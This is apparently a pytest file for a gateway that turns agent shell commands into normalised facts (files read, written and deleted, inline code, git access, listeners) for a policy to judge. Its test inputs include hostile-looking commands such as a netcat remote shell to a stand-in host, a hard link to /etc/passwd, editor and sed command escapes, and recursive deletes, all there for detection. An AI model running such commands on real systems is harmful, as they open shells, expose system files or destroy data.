"""The normalised facts of each simple command (input version 2): what the policy judges instead of argv.

Every case runs against a fresh workspace (tmp_path) with a few files:

    exists.txt  src/a.py  dir/  .env  link_out -> ../outside (a directory outside the workspace)

HOME is pinned to /home/tester so ``~`` expands the same everywhere.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from gateway.effects.paths import Workspace
from gateway.effects.shell import describe_command
from gateway.types import CommandEffect, Effects

HOME = "/home/tester"


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    monkeypatch.setenv("HOME", HOME)
    root = tmp_path / "repo"
    (root / "src").mkdir(parents=True)
    (root / "exists.txt").write_text("x\n")
    (root / "src" / "a.py").write_text("")
    (root / "dir").mkdir()
    (root / ".env").write_text("KEY=1\n")
    (tmp_path / "outside").mkdir()
    os.symlink(tmp_path / "outside", root / "link_out")
    return Workspace(root)


def run(command: str, ws: Workspace) -> Effects:
    return describe_command(command, ws, ws.root)


def command(fx: Effects, program: str, nth: int = 0) -> CommandEffect:
    """The nth command that runs ``program``."""
    return [c for c in fx.commands if c.program == program][nth]


def fact(command_text: str, program: str, field: str, ws: Workspace) -> Any:
    return getattr(command(run(command_text, ws), program), field)


def outside(ws: Workspace, rel: str) -> str:
    """The display form of a path next to the workspace (absolute)."""
    return (ws.root.parent / rel).as_posix()


# --------------------------------------------------------------------------------------------------
# program, subcommand, operation
# --------------------------------------------------------------------------------------------------

PROGRAM_CASES = [
    ("/usr/bin/python3.11 x.py", "python"),
    ("pypy3 x.py", "python"),
    ("nodejs app.js", "node"),
    ("pip3 list", "pip"),
    ("perl5.36 -e 1", "perl"),
    ("luajit x.lua", "lua"),
    ("\\rm x", "rm"),
    ("r''m x", "rm"),
    ("./scripts/run.sh", "./scripts/run.sh"),
    # a program in the workspace is whatever the agent put there, not the program of the same name
    ("./ls", "./ls"),
    ("src/cat x", "src/cat"),
    (".venv/bin/python x.py", ".venv/bin/python"),
    ("/bin/ls", "ls"),
    ("$X y", ""),
]


@pytest.mark.parametrize(("command_text", "program"), PROGRAM_CASES, ids=[c for c, _ in PROGRAM_CASES])
def test_program_is_normalised(command_text: str, program: str, ws: Workspace) -> None:
    assert run(command_text, ws).commands[0].program == program


SUBCOMMAND_CASES = [
    ("git -C src -c user.name=x log", "git", "log", None),
    ("git --git-dir=.git --no-pager status", "git", "status", None),
    ("git stash drop", "git", "stash", "drop"),
    ("git remote add up https://x.io/r", "git", "remote", "add"),
    ("git config --global user.name x", "git", "config", None),
    ("npm --prefix sub install left-pad", "npm", "install", "left-pad"),
    ("npm config set registry http://x", "npm", "config", "set"),
    ("pip config set global.index-url x", "pip", "config", "set"),
    ("pip install -r requirements.txt", "pip", "install", None),
    ("uv add httpx", "uv", "add", "httpx"),
    ("cargo build --release", "cargo", "build", None),
    ("go test ./...", "go", "test", "./..."),
    ("apt-get install -y curl", "apt-get", "install", "curl"),
    ("docker --host tcp://h run alpine", "docker", "run", "alpine"),
    ("kubectl -n prod get pods", "kubectl", "get", "pods"),
    ("python -m pytest -q", "python", "pytest", None),
    ("git", "git", None, None),
]


@pytest.mark.parametrize(
    ("command_text", "program", "subcommand", "operation"), SUBCOMMAND_CASES, ids=[c[0] for c in SUBCOMMAND_CASES]
)
def test_subcommand_after_global_options(
    command_text: str, program: str, subcommand: str | None, operation: str | None, ws: Workspace
) -> None:
    found = command(run(command_text, ws), program)
    assert (found.subcommand, found.operation) == (subcommand, operation)


def test_programs_without_subcommands_state_none(ws: Workspace) -> None:
    found = run("ls -la src", ws).commands[0]
    assert (found.subcommand, found.operation, found.access) == (None, None, None)


# --------------------------------------------------------------------------------------------------
# cwd: where each command runs
# --------------------------------------------------------------------------------------------------

CWD_CASES = [
    ("ls", "ls", "."),
    ("cd src && ls", "ls", "src"),
    ("cd src; cd ..; ls", "ls", "."),
    ("cd src && cd .. && cd dir && ls", "ls", "dir"),
    ("git -C src log", "git", "src"),
    ("git -C src -C .. status", "git", "."),
    ("env -C src ls", "ls", "src"),
    ("sudo -D src ls", "ls", "src"),
    ("(cd src); ls", "ls", "."),
    ("cd src | true; ls", "ls", "."),
    ("bash -c 'cd src && ls'", "ls", "src"),
    ("cd src && bash -c 'ls'", "ls", "src"),
    ("mkdir -p build && cd build && ls", "ls", "build"),
    ("cd $X; ls", "ls", None),
    ("pushd src; popd; ls", "ls", None),
    ("cd -; ls", "ls", None),
    ("if true; then cd src; fi; ls", "ls", None),
    ("cd nonexistent; ls", "ls", None),
]


@pytest.mark.parametrize(("command_text", "program", "cwd"), CWD_CASES, ids=[c[0] for c in CWD_CASES])
def test_cwd(command_text: str, program: str, cwd: str | None, ws: Workspace) -> None:
    assert fact(command_text, program, "cwd", ws) == cwd


def test_cwd_outside_the_workspace_is_absolute(ws: Workspace) -> None:
    assert fact("cd .. && ls", "ls", "cwd", ws) == ws.root.parent.as_posix()
    assert fact("cd /tmp && ls", "ls", "cwd", ws) == Path("/tmp").resolve().as_posix()
    assert fact("git -C /tmp status", "git", "cwd", ws) == Path("/tmp").resolve().as_posix()
    # a cd follows symlinks: link_out points outside
    assert fact("cd link_out && ls", "ls", "cwd", ws) == outside(ws, "outside")
    assert fact("cd; ls", "ls", "cwd", ws) in (None, HOME)


def test_a_cd_states_where_it_goes(ws: Workspace) -> None:
    assert fact("cd src", "cd", "paths", ws) == ["src"]
    assert fact("cd ../..", "cd", "paths", ws) == [ws.root.parent.parent.as_posix()]
    assert fact("cd src", "cd", "cwd", ws) == ".", "the cd itself runs where it starts"


def test_a_redirection_on_a_list_lands_after_the_cd(ws: Workspace) -> None:
    """tree-sitter hangs `> f` on the whole `cd d && cmd` list; bash on cmd, in d."""
    fx = run("cd src && echo x > new.py", ws)
    assert fx.creates == ["src/new.py"]
    assert command(fx, "echo").writes == ["src/new.py"] and command(fx, "cd").redirects == []
    fx = run("cd src && cat < a.py || echo no 2>/dev/null", ws)
    assert command(fx, "cat").reads == ["src/a.py"] and command(fx, "echo").redirects[0].target == "/dev/null"
    fx = run("cd src && cat > new.py <<'EOF'\nx\nEOF", ws)
    assert command(fx, "cat").writes == ["src/new.py"]


# --------------------------------------------------------------------------------------------------
# inline_code: program text, wherever the option sits, or fed on stdin
# --------------------------------------------------------------------------------------------------

INLINE_CASES = [
    ("python3 -c 'print(1)'", "python", ["print(1)"]),
    ("python3 -W ignore -c 'import os'", "python", ["import os"]),
    ("python3 -Wignore -c 'import os'", "python", ["import os"]),
    ("python -X dev -c 'import os'", "python", ["import os"]),
    ("python3 -Ic 'import os'", "python", ["import os"]),
    ("python3 -B -E -c 'x'", "python", ["x"]),
    ("python3 <<EOF\nimport os\nEOF", "python", ["import os\n"]),
    ("python3 - <<'EOF'\nimport os\nEOF", "python", ["import os\n"]),
    ("python3 <<< 'import os'", "python", ["import os\n"]),
    ("python3 /dev/stdin <<< 'import os'", "python", ["import os\n"]),
    ("perl -Mstrict -e 'print 1'", "perl", ["print 1"]),
    ("perl -w -e 'a' -e 'b'", "perl", ["a", "b"]),
    ("perl -pi -e 's/a/b/' exists.txt", "perl", ["s/a/b/"]),
    ("node --no-warnings -e 'x()'", "node", ["x()"]),
    ("node --input-type=module -e 'x()'", "node", ["x()"]),
    ("node -r ./hook.js -e 'x()'", "node", ["x()"]),
    ("node -p 'process.env'", "node", ["process.env"]),
    ("node -pe 'process.env'", "node", ["process.env"]),
    ("node -ep 'process.env'", "node", ["process.env"]),
    ("perl -lne 'print' exists.txt", "perl", ["print"]),
    ("perl -F: -lane 'print $F[0]' exists.txt", "perl", ["print $F[0]"]),
    ("perl -l012 -e 'x'", "perl", ["x"]),
    ("perl -Ilib -Mstrict -we 'x'", "perl", ["x"]),
    ("ruby -rjson -ne 'x' exists.txt", "ruby", ["x"]),
    ("ruby -r json -e 'x'", "ruby", ["x"]),
    ("php -B 'a();' -R 'b();' -E 'c();'", "php", ["a();", "b();", "c();"]),
    ("node --eval='x()'", "node", ["x()"]),
    ("node <<< 'x()'", "node", ["x()\n"]),
    ("ruby -w -e 'puts 1'", "ruby", ["puts 1"]),
    ("php -d display_errors=1 -r 'echo 1;'", "php", ["echo 1;"]),
    ("lua -e 'os.exit()'", "lua", ["os.exit()"]),
    ("Rscript -e 'q()'", "Rscript", ["q()"]),
    ("julia -e 'exit()'", "julia", ["exit()"]),
    ("deno eval 'Deno.exit()'", "deno", ["Deno.exit()"]),
    ("bun -e 'x()'", "bun", ["x()"]),
    ("osascript -e 'beep'", "osascript", ["beep"]),
    ("pwsh -Command Get-Date -Format x", "pwsh", ["Get-Date -Format x"]),
    ("vim -c ':!id' exists.txt", "vim", [":!id"]),
    ("vim +':!id' exists.txt", "vim", [":!id"]),
    ("nvim --cmd 'set x'", "nvim", ["set x"]),
    ("emacs --batch --eval '(kill-emacs)'", "emacs", ["(kill-emacs)"]),
    # not program text: a module's or a script's own -c, a file, a module
    ("python -m pytest -c setup.cfg", "python", []),
    ("python tools/gen.py -c 'import os'", "python", []),
    ("node app.js -e x", "node", []),
    ("perl script.pl -e x", "perl", []),
    ("python3 src/a.py", "python", []),
]


@pytest.mark.parametrize(("command_text", "program", "code"), INLINE_CASES, ids=[c[0] for c in INLINE_CASES])
def test_inline_code(command_text: str, program: str, code: list[str], ws: Workspace) -> None:
    assert fact(command_text, program, "inline_code", ws) == code


def test_shell_text_is_parsed_not_recorded(ws: Workspace) -> None:
    fx = run("bash -c 'rm -rf build'", ws)
    assert command(fx, "bash").inline_code == [] and fx.recursive_deletes == ["build"]
    fx = run("bash /dev/stdin <<'EOF'\nrm -rf build\nEOF", ws)
    assert fx.recursive_deletes == ["build"], "a shell reading /dev/stdin runs the heredoc"


@pytest.mark.parametrize(
    "command_text", ["echo x | python3", "cat a.py | node", "python3 <<EOF\n$CODE\nEOF", 'python3 -c "$C"']
)
def test_program_text_that_is_not_known_is_opaque(command_text: str, ws: Workspace) -> None:
    fx = run(command_text, ws)
    assert fx.opaque and fx.commands[-1].inline_code == []


# --------------------------------------------------------------------------------------------------
# reads, writes, deletes per command
# --------------------------------------------------------------------------------------------------


def test_each_command_states_its_own_files(ws: Workspace) -> None:
    fx = run("cat exists.txt > out.txt; rm src/a.py; cp exists.txt dir/", ws)
    assert command(fx, "cat").reads == ["exists.txt"] and command(fx, "cat").writes == ["out.txt"]
    assert command(fx, "rm").deletes == ["src/a.py"] and command(fx, "rm").reads == []
    assert command(fx, "cp").reads == ["exists.txt"] and command(fx, "cp").writes == ["dir/exists.txt"]


def test_a_wrapper_states_nothing_its_inner_command_does(ws: Workspace) -> None:
    fx = run("sudo rm exists.txt", ws)
    assert command(fx, "sudo").deletes == [] and command(fx, "rm").deletes == ["exists.txt"]


def test_link_sources_are_reads_resolved_from_the_links_directory(ws: Workspace) -> None:
    assert fact("ln -s src/a.py link", "ln", "reads", ws) == ["src/a.py"]
    assert fact("ln -s ../exists.txt src/link", "ln", "reads", ws) == ["exists.txt"]
    assert fact("ln -s ../x y", "ln", "reads", ws) == [outside(ws, "x")]
    assert fact("ln -s ../x", "ln", "reads", ws) == [outside(ws, "x")]
    assert fact("ln -s a.py src/", "ln", "reads", ws) == ["src/a.py"], "a link in a directory: relative to it"
    assert fact("ln /etc/passwd pw", "ln", "reads", ws) == ["/etc/passwd"]
    assert fact("ln ../x y", "ln", "reads", ws) == [outside(ws, "x")], "a hard link's source is from the cwd"
    assert fact("ln -t dir /etc/a", "ln", "reads", ws) == ["/etc/a"]
    assert fact("link .env notes", "link", "reads", ws) == [".env"]


# --------------------------------------------------------------------------------------------------
# paths: path-like words of programs the analysis does not follow
# --------------------------------------------------------------------------------------------------

PATH_CASES = [
    ("./tool ../../x", ["__up2__/x"]),
    ("make -C ../..", ["__up2__"]),
    ("make -C src", []),  # no "/" or "..": a name, not plainly a path
    ("tool --out=/tmp/x", ["/tmp/x"]),
    ("tool -o/etc/x", ["/etc/x"]),
    ("tool -I../include", ["__up1__/include"]),
    ("make DESTDIR=/opt/x install", ["/opt/x"]),
    ("tool ..", ["__up1__"]),
    ("tool link_out/x", ["__up1__/outside/x"]),
    ("tool src/a.py plain.txt", ["src/a.py"]),
    ("tool https://x.io/a /dev/null - -v --flag", []),
    ("python3 src/a.py ../data.csv", ["__up1__/data.csv"]),
    ("node app.js --config=/etc/app.json", ["/etc/app.json"]),
    ("bash scripts/x.sh /etc/hosts", ["/etc/hosts"]),
    ("npm install ../other", ["__up1__/other"]),
    ("go build -o /tmp/bin ./...", ["/tmp/bin", "..."]),
]


@pytest.mark.parametrize(("command_text", "paths"), PATH_CASES, ids=[c for c, _ in PATH_CASES])
def test_paths_of_unknown_programs(command_text: str, paths: list[str], ws: Workspace) -> None:
    up = {"__up1__": ws.root.parent.as_posix(), "__up2__": ws.root.parent.parent.as_posix()}
    expected = []
    for p in paths:
        for key, value in up.items():
            p = p.replace(key, value)
        expected.append(Path(p).resolve().as_posix() if p.startswith("/") else p)
    fx = run(command_text, ws)
    assert sorted({p for c in fx.commands for p in c.paths}) == sorted(expected), fx.commands


def test_paths_resolve_against_the_cwd(ws: Workspace) -> None:
    assert fact("cd src && ./tool ../exists.txt", "./tool", "paths", ws) == ["exists.txt"]


def test_known_programs_state_no_paths(ws: Workspace) -> None:
    for text in ("echo /etc/passwd", "cat /etc/passwd", "basename /etc/passwd", "which /usr/bin/env"):
        assert all(c.paths == [] for c in run(text, ws).commands), text


# --------------------------------------------------------------------------------------------------
# executes, env, access, recursive, world_writable, listeners
# --------------------------------------------------------------------------------------------------

EXECUTES_CASES = [
    ("git -p log", "git", ["pager"]),
    ("git grep -Ocat x", "git", ["cat"]),
    ("git grep --open-files-in-pager=less x", "git", ["less"]),
    ("GIT_EXTERNAL_DIFF=./x.sh git diff", "git", ["GIT_EXTERNAL_DIFF=./x.sh"]),
    ("git st", "git", ["git-st"]),
    ("git -c core.pager=id log", "git", ["config core.pager"]),
    ("sed '1e id' exists.txt", "sed", ["id"]),
    ("sed 's/a/b/e' exists.txt", "sed", ["the pattern space, as a command"]),
    ("awk '{print | \"sh\"}' exists.txt", "awk", ["sh"]),
    ("nc -e /bin/sh h.example 1", "nc", ["/bin/sh"]),
    ("rg --pre ./dec.sh x", "rg", ["./dec.sh"]),
    ("tar -xf a.tar --to-command=id", "tar", ["id"]),
    ("git log", "git", []),
]


@pytest.mark.parametrize(("command_text", "program", "executes"), EXECUTES_CASES, ids=[c[0] for c in EXECUTES_CASES])
def test_executes(command_text: str, program: str, executes: list[str], ws: Workspace) -> None:
    fx = run(command_text, ws)
    assert command(fx, program).executes == executes
    assert bool(fx.opaque) == bool(executes), "what a command may run is also opaque"


def test_env_given_to_a_command(ws: Workspace) -> None:
    assert fact("A=1 B='x y' ls", "ls", "env", ws) == {"A": "1", "B": "x y"}
    assert fact("env A=1 ls", "ls", "env", ws) == {"A": "1"}
    assert fact("sudo A=1 ls", "ls", "env", ws) == {"A": "1"}
    assert fact("A=1; ls", "ls", "env", ws) == {}


ACCESS_CASES = [
    ("git status", "read"),
    ("git log -p", "read"),
    ("git diff HEAD~1", "read"),
    ("git show HEAD:README.md", "read"),
    ("git branch", "read"),
    ("git branch -a", "read"),
    ("git branch --list 'f*'", "read"),
    ("git branch feature", "write"),
    ("git branch -D feature", "write"),
    ("git branch -f main HEAD~1", "write"),
    ("git branch -m old new", "write"),
    ("git tag", "read"),
    ("git tag -l", "read"),
    ("git tag -n", "read"),
    ("git tag v1", "write"),
    ("git tag -d v1", "write"),
    ("git stash list", "read"),
    ("git stash show", "read"),
    ("git stash", "write"),
    ("git stash drop", "write"),
    ("git stash clear", "write"),
    ("git stash pop", "write"),
    ("git update-ref refs/heads/main HEAD", "write"),
    ("git symbolic-ref HEAD", "read"),
    ("git symbolic-ref HEAD refs/heads/x", "write"),
    ("git reset --hard HEAD~1", "write"),
    ("git checkout -b x", "write"),
    ("git commit -m x", "write"),
    ("git add -A", "write"),
    ("git remote -v", "read"),
    ("git remote get-url origin", "read"),
    ("git remote add up https://x.io/r", "write"),
    ("git remote show origin", "remote"),
    ("git remote show -n origin", "read"),
    ("git remote update", "remote"),
    ("git config user.name", "read"),
    ("git config --get user.name", "read"),
    ("git config --list", "read"),
    ("git config user.name x", "write"),
    ("git config --unset user.name", "write"),
    ("git config set user.name x", "write"),
    ("git worktree list", "read"),
    ("git worktree add wt", "write"),
    ("git notes list", "read"),
    ("git notes add -m x", "write"),
    ("git reflog", "read"),
    ("git reflog expire --all", "destroy"),
    ("git reflog delete HEAD@{1}", "destroy"),
    ("git gc", "write"),
    ("git gc --prune=now", "destroy"),
    ("git prune", "destroy"),
    ("git update-ref -d refs/gateway/checkpoints/cp-1", "destroy"),
    ("git update-ref --stdin", "destroy"),
    ("git update-ref -d refs/heads/x", "write"),
    ("git replace -l", "read"),
    ("git replace a b", "write"),
    ("git bisect start", "write"),
    ("git bisect log", "read"),
    ("git clean -n", "read"),
    ("git clean -fd", "write"),
    ("git sparse-checkout list", "read"),
    ("git sparse-checkout set src", "write"),
    ("git hash-object exists.txt", "read"),
    ("git hash-object -w exists.txt", "write"),
    ("git format-patch --stdout HEAD~1", "read"),
    ("git format-patch HEAD~1", "write"),
    ("git archive HEAD", "read"),
    ("git archive --remote=https://x.io/r HEAD", "remote"),
    ("git push", "remote"),
    ("git pull", "remote"),
    ("git fetch --all", "remote"),
    ("git clone https://x.io/r", "remote"),
    ("git ls-remote origin", "remote"),
    ("git submodule status", "read"),
    ("git submodule update --init", "remote"),
    ("git --version", "read"),
]


@pytest.mark.parametrize(("command_text", "access"), ACCESS_CASES, ids=[c for c, _ in ACCESS_CASES])
def test_git_access(command_text: str, access: str, ws: Workspace) -> None:
    assert fact(command_text, "git", "access", ws) == access


@pytest.mark.parametrize(
    ("command_text", "program", "recursive"),
    [
        ("rm -rf build", "rm", True),
        ("rm -f x", "rm", False),
        ("cp -r src dst", "cp", True),
        ("cp -a src dst", "cp", True),
        ("chmod -R 755 src", "chmod", True),
        ("chown --recursive u dir", "chown", True),
        ("grep -r x src", "grep", True),
        ("rg x", "rg", True),
        ("grep x exists.txt", "grep", False),
        ("rsync -a src/ dst/", "rsync", True),
    ],
)
def test_recursive(command_text: str, program: str, recursive: bool, ws: Workspace) -> None:
    assert fact(command_text, program, "recursive", ws) is recursive


@pytest.mark.parametrize(
    ("mode", "world_writable"),
    [
        ("777", True),
        ("0666", True),
        ("1777", True),
        ("o+w", True),
        ("a+rwx", True),
        ("ugo=rw", True),
        ("u+x,o+w", True),
        ("755", False),
        ("644", False),
        ("+x", False),
        ("u+w", False),
        ("g+w", False),
        ("o-w", False),
        ("a-w", False),
    ],
)
def test_world_writable(mode: str, world_writable: bool, ws: Workspace) -> None:
    assert fact(f"chmod {mode} exists.txt", "chmod", "world_writable", ws) is world_writable
    assert fact(f"chown {mode} exists.txt", "chown", "world_writable", ws) is False


@pytest.mark.parametrize(
    ("command_text", "host"),
    [
        ("python3 -m http.server", "listen:8000"),
        ("python3 -m http.server 9000", "listen:9000"),
        ("python -m SimpleHTTPServer", "listen:8000"),
        ("php -S 0.0.0.0:8080", "listen:0.0.0.0:8080"),
        ("php -S localhost:1 -t src", "listen:localhost:1"),
        ("nc -l 8080", "listen:8080"),
        ("git daemon --port=9999", "listen:9999"),
    ],
)
def test_listeners_are_network_effects(command_text: str, host: str, ws: Workspace) -> None:
    assert host in {n.host for n in run(command_text, ws).network}


def test_user_configuration_writes(ws: Workspace) -> None:
    assert f"{HOME}/.npmrc" in run("npm config set registry http://x", ws).creates + run("npm login", ws).creates
    assert f"{HOME}/.config/pip/pip.conf" in run("pip config set global.index-url x", ws).creates
    assert run("npm config set x y --location=project", ws).creates == []


@pytest.mark.parametrize(
    ("script", "reads", "writes", "runs"),
    [
        ("w /tmp/x\nq", [], ["/tmp/x"], []),
        ("1,$wq out.txt", [], ["out.txt"], []),
        ("/re/r notes\nw\nq", ["notes"], [], []),
        ("g/x/w ../y\nq", [], ["../y"], []),
        ("e other\nw\nq", ["other"], ["other"], []),
        ("r !id\n!touch x\nw !cat\nq", [], [], ["id", "touch x", "cat"]),
        ("a\nw /tmp/text-not-a-command\n!not run\n.\nw\nq", [], [], []),
    ],
)
def test_ed_scripts_name_what_they_write_read_and_run(
    script: str, reads: list[str], writes: list[str], runs: list[str]
) -> None:
    from gateway.effects.shell.ed_script import parse_ed

    found = parse_ed(script)
    assert (found.reads, found.writes, found.runs) == (reads, writes, runs)


@pytest.mark.parametrize("script", ["a\nunfinished text", "G/x/"])
def test_ed_scripts_it_cannot_follow_are_errors(script: str) -> None:
    from gateway.effects.shell.ed_script import EdError, parse_ed

    with pytest.raises(EdError):
        parse_ed(script)


@pytest.mark.parametrize(
    ("code", "plain"),
    [
        ("s/a/b/g", True),
        ("s#a/b#c#; tr/a-z/A-Z/", True),
        ("s/a/b/e", False),
        ("BEGIN{open F,'>/x'}", False),
        ("s/a/@{[`id`]}/", False),
        ("s/(?{system 1})//", False),
        ("s{a}{b}", False),
    ],
)
def test_perl_in_place_code_is_plain_only_when_it_is_substitutions(code: str, plain: bool) -> None:
    from gateway.effects.shell.interpreters import plain_substitution

    assert plain_substitution(code) is plain
